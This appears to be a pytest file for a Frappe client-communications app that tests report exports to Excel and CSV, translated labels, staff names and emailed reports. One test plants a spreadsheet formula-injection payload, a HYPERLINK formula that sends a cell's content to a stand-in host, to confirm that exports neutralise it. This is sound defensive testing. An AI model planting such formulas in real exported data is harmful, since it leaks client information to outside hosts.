"""Every report of the app can be exported, also where rows have no value in a column (R-2)."""

import csv
import json
from io import BytesIO, StringIO

import frappe
import openpyxl
import pytest
from frappe.desk import query_report, reportview

pytestmark = pytest.mark.clause("R-2")

REPORTS = (
	"Channel Deviations",
	"Contacts to Confirm",
	"Data Map",
	"Disclosure Register",
	"Interaction Ageing",
	"Late Logs",
	"Owed Today",
	"Preferences to Ask For",
	"Response Compliance",
	"Review Results",
	"Team Board",
	"Training Status",
	"Unlogged Interactions",
	"Wording Findings",
)


def test_they_are_all_tried():
	modules = frappe.get_all("Module Def", {"app_name": "client_comms"}, pluck="name")
	assert set(frappe.get_all("Report", {"module": ("in", modules)}, pluck="name")) == set(REPORTS)


@pytest.mark.parametrize("file_format", ["Excel", "CSV"])
@pytest.mark.parametrize("report", REPORTS)
def test_it_becomes_a_file(report, file_format, log):
	log("Initial Inquiry")
	log("Service Update")  # nothing is owed
	period = {"from_date": "2026-01-01", "to_date": "2026-12-31"}
	frappe.local.form_dict = frappe._dict(
		report_name=report,
		file_format_type=file_format,
		filters=json.dumps(period),
		visible_idx="[]",
		include_indentation=0,
	)
	query_report.export_query()
	assert frappe.response["type"] == "binary" and frappe.response["filecontent"]


FORMULA = '=HYPERLINK("http://x.example/?"&B2,"Open")'


@pytest.mark.parametrize("file_format", ["Excel", "CSV"])
@pytest.mark.parametrize("surface", ["report", "list"])
def test_no_text_of_a_client_becomes_a_formula(surface, file_format, log):
	doc = log("Initial Inquiry")
	doc.db_set("subject", FORMULA)
	asked = {"file_format_type": file_format, "csv_delimiter": ";", "csv_quoting": 2}
	if surface == "report":
		asked |= {"report_name": "Team Board", "filters": "{}", "visible_idx": "[]", "include_indentation": 0}
		export = query_report.export_query
	else:
		fields = json.dumps(["`tabClient Interaction`.`name`", "`tabClient Interaction`.`subject`"])
		asked |= {"doctype": "Client Interaction", "fields": fields, "filters": "[]", "view": "Report"}
		asked |= {"title": "Client Interaction"}
		export = reportview.export_query
	wrapped = frappe.override_whitelisted_method(f"{export.__module__}.{export.__name__}")
	frappe.local.form_dict = frappe._dict(asked)
	frappe.get_attr(wrapped)()
	content = frappe.response["filecontent"]
	if file_format == "CSV":
		rows = list(csv.reader(StringIO(content.decode()), delimiter=";"))
		cells = [cell for row in rows for cell in row]
	else:
		sheet = openpyxl.load_workbook(BytesIO(content)).active
		assert "f" not in {cell.data_type for row in sheet for cell in row}
		cells = [str(cell.value) for row in sheet for cell in row]
	(found,) = [cell for cell in cells if "HYPERLINK" in cell]
	assert found.startswith("'=HYPERLINK" if file_format == "CSV" else "=HYPERLINK")


@pytest.mark.parametrize(
	("doctype", "print_format"),
	[("Feedback Review", "Feedback Review"), ("Scorecard Snapshot", "Clause Scorecard")],
)
def test_who_prints_what_is_stored_as_figures_gets_them(doctype, print_format):
	"""They are stored as text for programs, which Frappe's own print leaves out."""
	assert frappe.get_meta(doctype).default_print_format == print_format


@pytest.fixture
def exported(site):
	"""`exported("Owed Today", until="2036-01-01")`: what a user gets as a file, as a list of rows by their heads."""

	def export(report, **filters):
		frappe.local.form_dict = frappe._dict(
			report_name=report,
			file_format_type="CSV",
			csv_delimiter=",",
			csv_quoting=2,
			filters=json.dumps(filters),
			visible_idx="[]",
			include_indentation=0,
		)
		frappe.get_attr(frappe.override_whitelisted_method("frappe.desk.query_report.export_query"))()
		return list(csv.DictReader(StringIO(frappe.response["filecontent"].decode("utf-8-sig"))))

	return export


def test_a_file_names_staff_and_has_the_words_of_the_screen(log, make_user, exported, monkeypatch):
	user = make_user("Frontline Staff", first_name="Fiona", last_name="Berg")
	doc = log("Initial Inquiry", responsible_staff=user, confidentiality_level="Confidential")
	due = {"respond_status": "Running", "respond_by": "2026-01-05 17:00:00", "status": "Acknowledged"}
	doc.db_set({**due, "clock_state": "Running", "next_deadline": due["respond_by"]})
	monkeypatch.setattr(frappe.local, "lang", "fr")
	(row,) = exported("Owed Today", staff=user)
	assert (row["Personnel"], row["Niveau"]) == ("Fiona Berg", "Confidentiel")
	(row,) = [each for each in exported("Team Board", responsible_staff=user) if each["Statut"]]
	assert (row["Statut"], row["Niveau"]) == ("Réception confirmée", "Confidentiel")


def test_a_file_has_no_columns_of_buttons_and_names_kinds_of_clients(log, exported, monkeypatch, site):
	customer = site.get_doc(
		{"doctype": "Customer", "customer_name": "Hofladen Lund", "customer_type": "Company"}
	).insert()
	log("Initial Inquiry", party_type="Customer", party=customer.name)
	monkeypatch.setattr(frappe.local, "lang", "fr")
	rows = exported("Preferences to Ask For", party=customer.name)
	assert [(row["Nom du client"], row["Type de client"]) for row in rows] == [("Hofladen Lund", "Client")]
	assert "" not in rows[0]
	shown = frappe.get_attr(frappe.override_whitelisted_method("frappe.desk.query_report.run"))(
		report_name="Preferences to Ask For", filters=json.dumps({"party": customer.name})
	)
	assert [each["party_type"] for each in shown["result"]] == ["Customer"]
	assert "ask" in [column["fieldname"] for column in shown["columns"]]


def test_working_time_in_a_file_is_counted_in_hours(log, exported):
	"""A day of it is not 24 hours."""
	doc = log("Initial Inquiry", channel="Phone")
	doc.db_set({"logged_by_hand": 1, "logged_late": 1, "logged_after_seconds": 30 * 3600, "owner": "Guest"})
	(row,) = exported("Late Logs", staff="Guest")
	assert (row["Longest"], row["Logged Late %"]) == ("30h", "100.0")
	doc.db_set("logged_after_seconds", 0)
	assert exported("Late Logs", staff="Guest")[0]["Longest"] == "0m"


def test_an_emailed_report_names_staff(log, make_user):
	user = make_user("Frontline Staff", first_name="Fiona", last_name="Berg")
	doc = log("Initial Inquiry", responsible_staff=user)
	due = {"respond_status": "Running", "respond_by": "2026-01-05 17:00:00", "clock_state": "Running"}
	doc.db_set({**due, "next_deadline": due["respond_by"]})
	mail = frappe.get_doc(
		{
			"doctype": "Auto Email Report",
			"report": "Owed Today",
			"report_type": "Script Report",
			"user": "Administrator",
			"enabled": 1,
			"email_to": "someone@own.example",
			"format": "CSV",
			"frequency": "Daily",
			"filters": json.dumps({"staff": user}),
		}
	)
	content = mail.get_report_content()
	content = content.decode() if isinstance(content, bytes) else content
	assert "Fiona Berg" in content and user not in content
